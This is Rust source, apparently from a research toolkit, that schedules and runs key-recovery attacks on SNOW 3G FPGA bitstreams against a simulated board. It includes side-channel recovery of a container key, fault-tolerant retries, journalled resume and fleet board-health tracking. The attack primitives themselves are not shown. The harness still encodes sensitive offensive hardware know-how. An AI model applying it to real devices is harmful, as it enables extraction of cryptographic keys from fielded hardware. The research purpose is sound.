                    let digits = value.strip_prefix("0x").unwrap_or(value);
                    b.stuck(u32::from_str_radix(digits, 16).map_err(|_| bad())?)
                }
                "budget" => b.budget(value.parse().map_err(|_| bad())?),
                "stride" => b.stride(value.parse().map_err(|_| bad())?),
                "batch" => b.batch(value.parse().map_err(|_| bad())?),
                "deadline_ms" => b.deadline_ms(value.parse().map_err(|_| bad())?),
                "encrypted" => b.encrypted(value.parse().map_err(|_| bad())?),
                "sca_traces" => b.sca_traces(value.parse().map_err(|_| bad())?),
                "partial" => b.partial(value.parse().map_err(|_| bad())?),
                _ => return Err(ConfigError::UnknownField(key.to_string())),
            };
        }
        b.build()
    }

    /// Whether this session attacks the fault-injecting board.
    #[must_use]
    pub fn is_noisy(&self) -> bool {
        self.noisy
    }

    /// The fault/jitter seed.
    #[must_use]
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// The physical-attempt budget, when capped.
    #[must_use]
    pub fn budget(&self) -> Option<u64> {
        self.budget
    }

    /// The oracle batch width (1 = serial).
    #[must_use]
    pub fn batch_width(&self) -> usize {
        self.batch
    }

    /// Whether this session runs over the sealed container.
    #[must_use]
    pub fn is_encrypted(&self) -> bool {
        self.encrypted
    }

    /// The side-channel trace budget of an encrypted session.
    #[must_use]
    pub fn sca_trace_budget(&self) -> u32 {
        self.sca_traces
    }

    /// Whether candidate loads ship as frame-delta partial streams.
    #[must_use]
    pub fn is_partial(&self) -> bool {
        self.partial
    }

    /// The journal path of a local run, when journalled.
    #[must_use]
    pub fn journal_path(&self) -> Option<&std::path::Path> {
        self.journal.as_deref()
    }

    /// The trace path of a local run, when traced.
    #[must_use]
    pub fn trace_path(&self) -> Option<&std::path::Path> {
        self.trace.as_deref()
    }

    /// The fault profile this spec describes (noisy mode): the flaky
    /// baseline at the spec's rates, plus whichever taxonomy
    /// extensions (burst chain, drift, stuck bits) the spec enables.
    /// Board-local pathology (`dies_at`) is deliberately absent — the
    /// fleet owns *which board* is dying, the spec only owns the
    /// ambient noise (see [`fpga_sim::FaultProfile::same_ambient`]).
    #[must_use]
    pub fn fault_profile(&self) -> fpga_sim::FaultProfile {
        let mut profile = fpga_sim::FaultProfile::flaky(self.seed)
            .with_bit_glitch(self.glitch)
            .with_load_failure(self.load_fail);
        if self.burst_enter > 0.0 {
            profile = profile.with_burst(self.burst_enter, self.burst_exit, self.burst_glitch);
        }
        if self.drift > 0.0 {
            profile = profile.with_drift(self.drift);
        }
        if self.stuck != 0 {
            profile = profile.with_stuck_mask(self.stuck);
        }
        profile
    }

    /// The resilience configuration this spec describes: seeded
    /// retry/voting for noisy sessions (jitter stream decorrelated
    /// from the board's fault stream), pass-through otherwise, with
    /// the budget applied either way.
    #[must_use]
    pub fn resilience_config(&self) -> ResilienceConfig {
        let mut config = if self.noisy {
            ResilienceConfig::noisy(self.seed ^ 0x5EED).with_votes(self.votes)
        } else {
            ResilienceConfig::off()
        };
        if self.adaptive {
            config = config.with_adaptive();
        }
        if let Some(budget) = self.budget {
            config = config.with_budget(budget);
        }
        config
    }

    /// Builds the standard simulated victim (ETSI Test Set 1,
    /// unprotected mapping) and runs this session against it,
    /// honouring the spec's journal/trace/resume settings. The
    /// recovered key is verified against the known Test Set 1 key (a
    /// mismatch is a [`SessionOutcome::Failed`], not a silent
    /// success).
    ///
    /// # Errors
    ///
    /// [`SessionError::Board`] when the victim cannot be built;
    /// otherwise as [`SessionSpec::run_against`].
    pub fn run_local(&self) -> Result<SessionReport, SessionError> {
        let config = netlist::snow3g_circuit::Snow3gCircuitConfig::unprotected(
            snow3g::vectors::TEST_SET_1_KEY,
            snow3g::vectors::TEST_SET_1_IV,
        );
        let board = fpga_sim::Snow3gBoard::build(config, &fpga_sim::ImplementOptions::default())
            .map_err(SessionError::Board)?;
        let telemetry = match &self.trace {
            Some(path) => Telemetry::to_path(path).map_err(SessionError::Telemetry)?,
            None => Telemetry::off(),
        };
        let io = SessionIo {
            journal: self.journal.clone(),
            resume: if self.resume { ResumePolicy::Require } else { ResumePolicy::Never },
            telemetry,
            cancel: CancelToken::new(),
            expected_key: Some(snow3g::vectors::TEST_SET_1_KEY),
        };
        if self.noisy {
            let board = fpga_sim::UnreliableBoard::new(board, self.fault_profile());
            let golden = board.extract_bitstream();
            let report = self.run_harnessed(&board, golden, &io)?;
            record_board_faults(&io.telemetry, &board);
            Ok(report)
        } else {
            let golden = board.extract_bitstream();
            self.run_harnessed(&board, golden, &io)
        }
    }

    /// Runs this session with the spec's container mode honoured: a
    /// plaintext spec passes straight to
    /// [`SessionSpec::run_against`]; an encrypted spec first seals
    /// `golden` into the demo Fig. 1 container (the vendor-side step
    /// that produced what sits in flash), spends the spec's
    /// side-channel trace budget recovering `K_E`, builds the
    /// seekable patch oracle over the ciphertext, and runs the same
    /// engine through an [`EncryptedOracle`](crate::EncryptedOracle)
    /// — the attack's golden bitstream comes *out of the container*,
    /// and every candidate load is patch-sealed and device-verified.
    ///
    /// An insufficient trace budget is a
    /// [`SessionOutcome::Exhausted`] with an empty checkpoint (the
    /// attack never started), not an error: re-submit with a raised
    /// `sca_traces` to proceed.
    ///
    /// # Errors
    ///
    /// As [`SessionSpec::run_against`], plus [`SessionError::Attack`]
    /// when the sealed container is rejected under the recovered key.
    pub fn run_harnessed(
        &self,
        oracle: &dyn KeystreamOracle,
        golden: Bitstream,
        io: &SessionIo,
    ) -> Result<SessionReport, SessionError> {
        if !self.encrypted {
            return self.run_against(oracle, golden, io);
        }
        // Vendor side: seal, then forget the plaintext — from here on
        // the attacker's world is the container.
        let sealed = crate::encrypted::demo_seal(&golden);
        drop(golden);
        let patcher = match crate::encrypted::open_with_sca(
            &sealed,
            &crate::encrypted::demo_sca(),
            self.sca_traces,
        ) {
            Ok(patcher) => patcher,
            Err(AttackError::Exhausted { checkpoint, source }) => {
                return Ok(SessionReport {
                    outcome: SessionOutcome::Exhausted {
                        stats: CellStats::default(),
                        summary: source.to_string(),
                    },
                    metrics: io.telemetry.metrics(),
                    attack: None,
                    checkpoint: Some(*checkpoint),
                });
            }
            Err(e) => return Err(SessionError::Attack(e)),
        };
        // Attacker side: the golden bitstream is *recovered from the
        // ciphertext*; the plaintext never crossed the seal boundary.
        let recovered_golden = patcher.golden().clone();
        let enc = crate::encrypted::EncryptedOracle::new(oracle, patcher)
            .with_telemetry(io.telemetry.clone());
        self.run_against(&enc, recovered_golden, io)
    }

    /// Runs this session against a caller-supplied oracle — the
    /// engine underneath [`SessionSpec::run_local`], fleet workers
    /// and the sweep binaries. The oracle is wrapped in a supervised
    /// chokepoint enforcing `io.cancel` and the spec's wall-clock
    /// deadline at every query; with `io.journal` set, the attack
    /// checkpoints write-ahead and resumes per `io.resume`.
    ///
    /// # Errors
    ///
    /// [`SessionError::Attack`] on setup or pipeline failures that
    /// are neither budget exhaustion nor cancellation (those are
    /// [`SessionOutcome`]s, not errors);
    /// [`SessionError::Config`] when `io.resume` requires a journal
    /// that does not exist.
    pub fn run_against(
        &self,
        oracle: &dyn KeystreamOracle,
        golden: Bitstream,
        io: &SessionIo,
    ) -> Result<SessionReport, SessionError> {
        // Metrics feed the outcome's effort accounting even when the
        // caller traces nothing; an enabled recorder is inert (the
        // telemetry differential tests pin this), so swapping one in
        // never perturbs the query trace.
        let telemetry =
            if io.telemetry.is_enabled() { io.telemetry.clone() } else { Telemetry::new() };
        // Delta loading sits directly above the device (below
        // supervision and resilience): with `partial` unset — or an
        // oracle without a partial-reconfiguration port — it is a pure
        // pass-through.
        let pr = crate::pr::PrOracle::new(oracle, self.partial).with_telemetry(telemetry.clone());
        let deadline = self.deadline_ms.map(|ms| Instant::now() + Duration::from_millis(ms));
        let supervisor = CellSupervisor::new(io.cancel.clone(), deadline, telemetry.clone());
        let supervised = supervisor.supervise(&pr);

        let journal_exists = io.journal.as_ref().is_some_and(|p| p.exists());
        let resuming = match io.resume {
            ResumePolicy::Never => false,
            ResumePolicy::IfJournalExists => journal_exists,
            ResumePolicy::Require if journal_exists => true,
            ResumePolicy::Require => return Err(SessionError::Config(missing_journal(io))),
        };

        let build_resumed = |golden: Bitstream| {
            let path = io.journal.as_ref().expect("resuming implies a journal path");
            let journal = AttackJournal::new(path);
            let attack = match self.budget {
                // A fresh budget raises the cap of the resumed run;
                // all trace-determining parameters stay journalled.
                Some(budget) => {
                    let config =
                        journal.load().map_err(AttackError::from)?.config.with_budget(budget);
                    Attack::resume_with(&supervised, golden, journal, config)
                }
                None => Attack::resume(&supervised, golden, journal),
            };
            attack.map(|attack| attack.with_telemetry(telemetry.clone()))
        };
        let build_fresh = |golden: Bitstream| {
            // The one blessed call site of the deprecated free-form
            // constructor: every other path builds sessions here.
            #[allow(deprecated)]
            let mut attack = Attack::instrumented(
                &supervised,
                golden,
                self.stride,
                self.resilience_config(),
                telemetry.clone(),
            )
            .map_err(SessionError::Attack)?;
            if self.encrypted {
                // Before the journal attaches, so the initial frame
                // already carries the SCA accounting.
                attack = attack.with_sca_traces(self.sca_traces);
            }
            if let Some(path) = &io.journal {
                attack =
                    attack.with_journal(AttackJournal::new(path)).map_err(SessionError::Attack)?;
            }
            Ok::<_, SessionError>(attack)
        };

        let attack = if resuming {
            match build_resumed(golden.clone()) {
                Ok(attack) => Some(attack),
                // A torn journal (crash mid-checkpoint under opt-in
                // resume) is not a dead session: discard the damaged
                // frame and restart from scratch. The attack is a pure
                // function of its seed, so the fresh run reaches the
                // same totals the journalled run would have — the only
                // cost is the re-burned queries. `Require` still
                // escalates (the caller asserted the journal's truth).
                Err(AttackError::Journal(je))
                    if je.is_corruption() && io.resume == ResumePolicy::IfJournalExists =>
                {
                    telemetry.incr(names::JOURNAL_TORN_DISCARDED, 1);
                    if let Some(path) = &io.journal {
                        let _ = std::fs::remove_file(path);
                    }
                    None
                }
                Err(e) => return Err(SessionError::Attack(e)),
            }
        } else {
            None
        };
        let attack = match attack {
            Some(attack) => attack,
            None => build_fresh(golden)?,
        };
        let attack = attack.with_batch(self.batch);

        match attack.run() {
            Ok(report) => {
                // Effort from the resilience layer, not the live
                // recorder: the journal restores these counters in
                // full, so a resumed (or fleet-stolen) session reports
                // the same totals an uninterrupted run would — the
                // recorder only saw the post-resume queries.
                let stats = CellStats {
                    physical: report.resilience.attempts,
                    logical: report.resilience.queries,
                    retries: report.resilience.transient_errors,
                    backoff_ms: report.resilience.backoff_ms,
                };
                let wrong_key =
                    io.expected_key.is_some_and(|expected| report.recovered.key != expected);
                let outcome = if wrong_key {
                    SessionOutcome::Failed { stats, note: "recovered a wrong key".into() }
                } else {
                    SessionOutcome::Recovered(stats)
                };
                Ok(SessionReport {
                    outcome,
                    metrics: telemetry.metrics(),
                    attack: Some(report),
                    checkpoint: None,
                })
            }
            Err(AttackError::Exhausted { checkpoint, source }) => Ok(SessionReport {
                outcome: SessionOutcome::Exhausted {
                    // The checkpoint's attempt counter survives
                    // resume; the recorder-derived remainder is
                    // post-resume-only on a resumed session.
                    stats: CellStats {
                        physical: checkpoint.oracle_attempts,
                        ..stats_from(&telemetry)
                    },
                    summary: source.to_string(),
                },
                metrics: telemetry.metrics(),
                attack: None,
                checkpoint: Some(*checkpoint),
            }),
            Err(_) if io.cancel.is_cancelled() => Ok(SessionReport {
                outcome: SessionOutcome::Cancelled,
                metrics: telemetry.metrics(),
                attack: None,
                checkpoint: None,
            }),
            Err(e) => Err(SessionError::Attack(e)),
        }
    }
}

fn missing_journal(io: &SessionIo) -> ConfigError {
    match &io.journal {
        None => ConfigError::ResumeWithoutJournal,
        Some(path) => ConfigError::BadField {
            name: "journal".into(),
            value: format!("{} does not exist", path.display()),
        },
    }
}

/// Where a session's artifacts go and how it is observed — the
/// run-site parameters [`SessionSpec::run_against`] needs beyond the
/// spec itself. A fleet worker points these at the session's
/// [`SessionLayout`](super::layout::SessionLayout); `run_local`
/// derives them from the spec's own paths.
#[derive(Debug, Clone, Default)]
pub struct SessionIo {
    /// Crash-safe journal path (`None` = not journalled).
    pub journal: Option<PathBuf>,
    /// When to resume from an existing journal.
    pub resume: ResumePolicy,
    /// The telemetry recorder observing the session
    /// ([`Telemetry::off`] records nothing user-visible; effort
    /// accounting still works).
    pub telemetry: Telemetry,
    /// Cooperative cancellation, enforced at every oracle query.
    pub cancel: CancelToken,
    /// When set, a recovered key differing from this is reported as
    /// [`SessionOutcome::Failed`] rather than trusted.
    pub expected_key: Option<snow3g::Key>,
}

/// When [`SessionSpec::run_against`] resumes from an existing
/// journal.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum ResumePolicy {
    /// Never resume; an existing journal is overwritten.
    #[default]
    Never,
    /// Resume exactly when the journal file exists — the fleet
    /// worker policy, which is what lets a stolen session continue on
    /// a peer.
    IfJournalExists,
    /// Resume, and fail if the journal is missing (`--resume`).
    Require,
}

/// How a session ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SessionOutcome {
    /// The attack recovered (and verified) the key.
    Recovered(CellStats),
    /// The physical-query budget ran out; the journal (if any) holds
    /// the partial result.
    Exhausted {
        /// Effort burned before the cut.
        stats: CellStats,
        /// Human-readable checkpoint summary.
        summary: String,
    },
    /// The session completed without recovering the key, or aborted
    /// on a typed error.
    Failed {
        /// Effort burned.
        stats: CellStats,
        /// The typed failure rendered, or a wrong-key note.
        note: String,
    },
    /// The session was cancelled.
    Cancelled,
}

impl SessionOutcome {
    /// The wire/state string (`recovered`, `exhausted`, `failed`,
    /// `cancelled`).
    #[must_use]
    pub fn state_str(&self) -> &'static str {
        match self {
            SessionOutcome::Recovered(_) => "recovered",
            SessionOutcome::Exhausted { .. } => "exhausted",
            SessionOutcome::Failed { .. } => "failed",
            SessionOutcome::Cancelled => "cancelled",
        }
    }

    /// The effort stats, when the outcome carries them.
    #[must_use]
    pub fn stats(&self) -> CellStats {
        match self {
            SessionOutcome::Recovered(stats)
            | SessionOutcome::Exhausted { stats, .. }
            | SessionOutcome::Failed { stats, .. } => stats.clone(),
            SessionOutcome::Cancelled => CellStats::default(),
        }
    }

    /// The note/summary text, when any.
    #[must_use]
    pub fn note(&self) -> &str {
        match self {
            SessionOutcome::Exhausted { summary, .. } => summary,
            SessionOutcome::Failed { note, .. } => note,
            _ => "",
        }
    }
}

impl fmt::Display for SessionOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let note = self.note();
        if note.is_empty() {
            f.write_str(self.state_str())
        } else {
            write!(f, "{}: {note}", self.state_str())
        }
    }
}

/// What a completed session returns.
#[derive(Debug, Clone)]
pub struct SessionReport {
    /// How the session ended.
    pub outcome: SessionOutcome,
    /// The session's full metric bag (oracle effort, journal writes,
    /// batch utilisation).
    pub metrics: crate::telemetry::Metrics,
    /// The full attack report, when the pipeline completed.
    pub attack: Option<AttackReport>,
    /// The partial-result checkpoint, on budget exhaustion.
    pub checkpoint: Option<AttackCheckpoint>,
}

/// A session-harness failure (distinct from a session *outcome*: a
/// budget cut or cancellation is a result, not an error).
#[derive(Debug)]
#[non_exhaustive]
pub enum SessionError {
    /// The simulated victim board could not be built.
    Board(fpga_sim::BoardError),
    /// The session's output layout could not be materialised.
    Layout(LayoutError),
    /// The telemetry trace sink could not be opened.
    Telemetry(TelemetryError),
    /// The attack pipeline failed (setup or a non-budget abort).
    Attack(AttackError),
    /// The spec/run-site combination was invalid.
    Config(ConfigError),
}

impl fmt::Display for SessionError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SessionError::Board(e) => write!(f, "victim board construction failed: {e}"),
            SessionError::Layout(e) => write!(f, "session layout: {e}"),
            SessionError::Telemetry(e) => write!(f, "telemetry: {e}"),
            SessionError::Attack(e) => write!(f, "attack: {e}"),
            SessionError::Config(e) => write!(f, "session config: {e}"),
        }
    }
}

impl std::error::Error for SessionError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SessionError::Board(e) => Some(e),
            SessionError::Layout(e) => Some(e),
            SessionError::Telemetry(e) => Some(e),
            SessionError::Attack(e) => Some(e),
            SessionError::Config(e) => Some(e),
        }
    }
}

impl From<LayoutError> for SessionError {
    fn from(e: LayoutError) -> Self {
        SessionError::Layout(e)
    }
}

impl From<ConfigError> for SessionError {
    fn from(e: ConfigError) -> Self {
        SessionError::Config(e)
    }
}

/// Effort accounting from a session's metric bag — the same four
/// columns the sweep table reports, so failed sessions still account
/// for the physical work they burned.
#[must_use]
pub fn stats_from(telemetry: &Telemetry) -> CellStats {
    let m = telemetry.metrics();
    CellStats {
        physical: m.counter(names::ORACLE_LOADS),
        logical: m.counter(names::ORACLE_QUERIES),
        retries: m.counter(names::ORACLE_RETRIES),
        backoff_ms: m.counter(names::ORACLE_BACKOFF_MS),
    }
}

/// Records a board's injected-fault accounting into a session's
/// telemetry — after the run, so the trace can set faults *injected*
/// against the retries the attack *observed*.
pub fn record_board_faults(telemetry: &Telemetry, board: &fpga_sim::UnreliableBoard) {
    let fs = board.fault_stats();
    telemetry.record_board_faults(
        fs.loads_attempted,
        fs.transient_failures,
        fs.timeouts,
        fs.truncated_reads,
        fs.bits_flipped,
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_validates_each_field() {
        assert!(SessionSpec::builder().build().is_ok(), "defaults validate");
        let cases: [(SessionSpecBuilder, ConfigError); 6] = [
            (
                SessionSpec::builder().glitch(1.5),
                ConfigError::RateOutOfRange { name: "glitch", value: 1.5 },
            ),
            (
                SessionSpec::builder().load_fail(-0.1),
                ConfigError::RateOutOfRange { name: "load_fail", value: -0.1 },
            ),
            (SessionSpec::builder().votes(4), ConfigError::BadVotes(4)),
            (SessionSpec::builder().stride(0), ConfigError::ZeroStride),
            (
                SessionSpec::builder().batch(65),
                ConfigError::BatchTooWide { got: 65, max: fpga_sim::GANG_LANES },
            ),
            (SessionSpec::builder().budget(0), ConfigError::ZeroBudget),
        ];
        for (builder, expected) in cases {
            let err = builder.build().expect_err("invalid");
            assert_eq!(err, expected);
        }
        let err = SessionSpec::builder().resume(true).build().expect_err("resume needs journal");
        assert_eq!(err, ConfigError::ResumeWithoutJournal);
        assert!(SessionSpec::builder().resume(true).journal("a.journal").build().is_ok());
    }

    #[test]
    fn wire_form_roundtrips_through_the_validating_builder() {
        let spec = SessionSpec::builder()
            .noisy(true)
            .seed(7)
            .glitch(0.015)
            .load_fail(0.25)
            .votes(9)
            .adaptive(true)
            .burst(0.05, 0.3, 0.12)
            .drift(0.001)
            .stuck(0x8000_0001)
            .budget(4_000)
            .stride(101)
            .batch(64)
            .deadline_ms(30_000)
            .build()
            .expect("valid");
        let wire = spec.to_wire();
        let parsed = SessionSpec::from_wire(&wire).expect("parses");
        assert_eq!(parsed, spec);
        // Defaulted taxonomy fields stay off the wire, so pre-0.8
        // lines and new default lines are byte-identical.
        let plain = SessionSpec::builder().build().expect("valid").to_wire();
        for field in ["adaptive", "burst", "drift", "stuck"] {
            assert!(!plain.contains(field), "default wire line leaks '{field}'");
        }
        // Local-only fields never cross the wire.
        let local = SessionSpec::builder().journal("x.journal").trace("x.ndjson").build().unwrap();
        assert!(!local.to_wire().contains("journal"));
        assert!(!local.to_wire().contains("trace"));
    }

    #[test]
    fn wire_decode_rejects_malformed_input_with_typed_errors() {
        let err = SessionSpec::from_wire("frobnicate=1").expect_err("unknown field");
        assert_eq!(err, ConfigError::UnknownField("frobnicate".into()));
        let err = SessionSpec::from_wire("seed=banana").expect_err("bad value");
        assert_eq!(err, ConfigError::BadField { name: "seed".into(), value: "banana".into() });
        let err = SessionSpec::from_wire("seed").expect_err("no equals");
        assert!(matches!(err, ConfigError::BadField { .. }));
        // Validation runs on wire specs exactly as on built ones.
        let err = SessionSpec::from_wire("votes=2").expect_err("even votes");
        assert_eq!(err, ConfigError::BadVotes(2));
    }

    #[test]
    fn spec_maps_taxonomy_and_adaptive_flags_onto_profile_and_config() {
        let spec = SessionSpec::builder()
            .noisy(true)
            .seed(3)
            .adaptive(true)
            .burst(0.2, 0.4, 0.1)
            .drift(0.01)
            .stuck(0xF)
            .build()
            .expect("valid");
        let profile = spec.fault_profile();
        assert_eq!(profile.burst_enter, 0.2);
        assert_eq!(profile.burst_exit, 0.4);
        assert_eq!(profile.burst_glitch, 0.1);
        assert_eq!(profile.drift, 0.01);
        assert_eq!(profile.stuck_mask, 0xF);
        assert!(profile.dies_at.is_none(), "pathology is fleet-owned, not spec-owned");
        assert!(spec.resilience_config().adaptive);
        assert!(!SessionSpec::builder().build().expect("valid").resilience_config().adaptive);
    }

    #[test]
    fn outcome_accessors_and_display() {
        let stats = CellStats { physical: 5, logical: 2, retries: 1, backoff_ms: 10 };
        let o = SessionOutcome::Recovered(stats.clone());
        assert_eq!(o.state_str(), "recovered");
        assert_eq!(o.stats(), stats);
        assert_eq!(o.to_string(), "recovered");
        let o = SessionOutcome::Failed { stats: CellStats::default(), note: "boom".into() };
        assert_eq!(o.to_string(), "failed: boom");
        assert_eq!(SessionOutcome::Cancelled.stats(), CellStats::default());
    }
}
