//! Board-health scoring and quarantine for the worker pool.
//!
//! A fleet worker is only as good as the physical board behind it,
//! and the richer fault taxonomy ([`fpga_sim::FaultProfile`]) makes
//! boards fail in ways a retry cannot paper over: progressive
//! degradation drifts a board from "flaky" to "useless", and
//! `dies_at` pathology kills one outright mid-session. This module
//! gives the scheduler a memory of each board's behaviour:
//!
//! * [`BoardScore`] — a per-worker rolling tally of the faults the
//!   board *injected* (from [`fpga_sim::FaultStats`], the ground
//!   truth, not the attack's observations), classified by
//!   [`BoardScore::health`] into [`BoardHealth`] bands;
//! * **quarantine markers** — a dead board is recorded durably as
//!   `<root>/quarantine/worker-<index>`, so the verdict survives the
//!   daemon (a `SIGKILL`'d fleet reboots knowing which boards were
//!   sick);
//! * **boot re-probe** — [`Fleet::start`](super::Fleet) rescans the
//!   markers and re-probes each quarantined board; one that answers a
//!   probe read again (replaced or recovered hardware) rejoins the
//!   pool and its marker is cleared.
//!
//! Sessions interrupted by a board death migrate to healthy peers
//! over the existing kill-and-steal path: the journal stays on disk,
//! the worker requeues the session and retires, and a peer resumes it
//! to the bit-identical query trace — the board swap is invisible to
//! the attack because `dies_at` pathology is excluded from
//! [`fpga_sim::FaultProfile::same_ambient`].

use core::fmt;
use std::fs;
use std::path::{Path, PathBuf};

/// Injected-fault rate (milli units, faults per load) above which a
/// board is reported [`BoardHealth::Suspect`].
pub const SUSPECT_MILLI: u64 = 250;

/// A worker board's health classification, derived from its
/// [`BoardScore`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BoardHealth {
    /// Fault rate within the profile's expected envelope.
    Healthy,
    /// Injected-fault rate above [`SUSPECT_MILLI`]: the board still
    /// answers, but burns disproportionate retries.
    Suspect,
    /// The board died permanently and is quarantined.
    Dead,
}

impl fmt::Display for BoardHealth {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            BoardHealth::Healthy => "healthy",
            BoardHealth::Suspect => "suspect",
            BoardHealth::Dead => "dead",
        })
    }
}

/// A rolling per-board fault tally, accumulated from each session's
/// [`fpga_sim::FaultStats`] after the session finishes.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BoardScore {
    /// Sessions this board has run.
    pub sessions: u64,
    /// Configuration loads attempted on this board.
    pub loads: u64,
    /// Faults the board injected (transient load failures, timeouts,
    /// truncated reads).
    pub faults: u64,
    /// Whether the board died permanently.
    pub dead: bool,
}

impl BoardScore {
    /// Folds one finished session's board-side fault accounting into
    /// the score.
    pub fn observe(&mut self, stats: &fpga_sim::FaultStats, dead: bool) {
        self.sessions += 1;
        self.loads += stats.loads_attempted;
        self.faults += stats.transient_failures + stats.timeouts + stats.truncated_reads;
        self.dead |= dead;
    }

    /// The injected-fault rate in milli units (faults per load ×
    /// 1000); 0 before the first load.
    #[must_use]
    pub fn fault_milli(&self) -> u64 {
        (self.faults * 1000).checked_div(self.loads).unwrap_or(0)
    }

    /// The health band this score falls in.
    #[must_use]
    pub fn health(&self) -> BoardHealth {
        if self.dead {
            BoardHealth::Dead
        } else if self.fault_milli() > SUSPECT_MILLI {
            BoardHealth::Suspect
        } else {
            BoardHealth::Healthy
        }
    }
}

/// One row of the fleet's health report: worker index, score, band.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WorkerHealth {
    /// The worker (and board) index.
    pub worker: usize,
    /// The rolling fault tally.
    pub score: BoardScore,
}

impl WorkerHealth {
    /// The health band of this worker's board.
    #[must_use]
    pub fn health(&self) -> BoardHealth {
        self.score.health()
    }
}

impl fmt::Display for WorkerHealth {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "worker {}: {} ({} session(s), {} loads, {} faults injected, {}\u{2030} fault rate)",
            self.worker,
            self.health(),
            self.score.sessions,
            self.score.loads,
            self.score.faults,
            self.score.fault_milli(),
        )
    }
}

/// The quarantine directory under a fleet root.
fn quarantine_dir(root: &Path) -> PathBuf {
    root.join("quarantine")
}

/// The durable marker recording worker `index`'s board as
/// quarantined.
#[must_use]
pub fn marker_path(root: &Path, index: usize) -> PathBuf {
    quarantine_dir(root).join(format!("worker-{index}"))
}

/// Durably quarantines worker `index`'s board: writes the marker file
/// (with the final score, for the operator) under
/// `<root>/quarantine/`. Best-effort — a filesystem failure must not
/// take the scheduler down with the board.
pub fn mark_quarantined(root: &Path, index: usize, score: &BoardScore) {
    let dir = quarantine_dir(root);
    if fs::create_dir_all(&dir).is_err() {
        return;
    }
    let body = format!(
        "sessions={} loads={} faults={} fault_milli={}\n",
        score.sessions,
        score.loads,
        score.faults,
        score.fault_milli()
    );
    let _ = fs::write(marker_path(root, index), body);
}

/// Clears worker `index`'s quarantine marker (after a successful
/// re-probe).
pub fn clear_quarantine(root: &Path, index: usize) {
    let _ = fs::remove_file(marker_path(root, index));
}

/// The worker indices quarantined on disk, sorted. Unparsable entries
/// are ignored (the directory is fleet-owned; stray files are not an
/// error worth dying over).
#[must_use]
pub fn scan_quarantined(root: &Path) -> Vec<usize> {
    let Ok(entries) = fs::read_dir(quarantine_dir(root)) else {
        return Vec::new();
    };
    let mut indices: Vec<usize> = entries
        .filter_map(Result::ok)
        .filter_map(|e| e.file_name().into_string().ok())
        .filter_map(|name| name.strip_prefix("worker-")?.parse().ok())
        .collect();
    indices.sort_unstable();
    indices
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scores_classify_into_health_bands() {
        let mut score = BoardScore::default();
        assert_eq!(score.health(), BoardHealth::Healthy, "no data is healthy");
        score.observe(
            &fpga_sim::FaultStats {
                loads_attempted: 100,
                transient_failures: 10,
                timeouts: 2,
                truncated_reads: 1,
                ..Default::default()
            },
            false,
        );
        assert_eq!(score.fault_milli(), 130);
        assert_eq!(score.health(), BoardHealth::Healthy);
        score.observe(
            &fpga_sim::FaultStats {
                loads_attempted: 100,
                transient_failures: 60,
                timeouts: 10,
                truncated_reads: 5,
                ..Default::default()
            },
            false,
        );
        assert!(score.fault_milli() > SUSPECT_MILLI);
        assert_eq!(score.health(), BoardHealth::Suspect);
        score.observe(&fpga_sim::FaultStats::default(), true);
        assert_eq!(score.health(), BoardHealth::Dead, "death dominates the rate");
        assert_eq!(score.sessions, 3);
    }

    #[test]
    fn quarantine_markers_roundtrip_through_the_filesystem() {
        let root = std::env::temp_dir().join(format!("bitmod-quarantine-{}", std::process::id()));
        let _ = fs::remove_dir_all(&root);
        fs::create_dir_all(&root).expect("root");
        assert!(scan_quarantined(&root).is_empty(), "no markers yet");
        let score = BoardScore { sessions: 2, loads: 50, faults: 9, dead: true };
        mark_quarantined(&root, 3, &score);
        mark_quarantined(&root, 1, &score);
        assert_eq!(scan_quarantined(&root), vec![1, 3]);
        let body = fs::read_to_string(marker_path(&root, 3)).expect("marker body");
        assert!(body.contains("loads=50"), "marker records the score: {body}");
        clear_quarantine(&root, 3);
        assert_eq!(scan_quarantined(&root), vec![1]);
        // Stray files in the directory are ignored, not errors.
        fs::write(quarantine_dir(&root).join("README"), "not a marker").expect("stray");
        assert_eq!(scan_quarantined(&root), vec![1]);
        let _ = fs::remove_dir_all(&root);
    }
}
