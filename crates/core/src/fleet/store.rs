//! The fleet's session table: durable admission, live handles, and
//! terminal results.
//!
//! Every submitted session gets a [`SessionSlot`] (shared in-memory
//! state guarded by one mutex + condvar) and a
//! [`SessionLayout`](super::layout::SessionLayout) directory on disk
//! holding its spec, crash-safe journal, NDJSON trace and — once the
//! session ends — a one-line `result.json`. The directory is the
//! durable truth: on boot the store rescans the fleet root, rebuilds
//! terminal slots from their results, and hands sessions *without* a
//! result back to the scheduler, which resumes them from their
//! journals exactly as it resumes sessions stolen from a killed
//! worker.

use std::collections::BTreeMap;
use std::fs;
use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Condvar, Mutex};
use std::time::Duration;

use crate::campaign::{CancelToken, CellStats};
use crate::journal;

use super::layout::{SessionLayout, SPEC_FILE, TOKEN_FILE};
use super::session::{SessionError, SessionOutcome, SessionSpec};
use super::wire;

/// Where a session is in its life cycle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    /// Admitted, waiting in a worker queue (or waiting to be stolen).
    Queued,
    /// Executing on a worker.
    Running,
    /// Terminal: the key was recovered and verified.
    Recovered,
    /// Terminal: the physical-query budget ran out (the journal holds
    /// the partial result).
    Exhausted,
    /// Terminal: completed without the key, or aborted on an error or
    /// a panic.
    Failed,
    /// Terminal: cancelled.
    Cancelled,
}

impl SessionState {
    /// Whether this state is terminal.
    #[must_use]
    pub fn is_terminal(self) -> bool {
        !matches!(self, SessionState::Queued | SessionState::Running)
    }

    /// The wire string (`queued`, `running`, `recovered`, …).
    #[must_use]
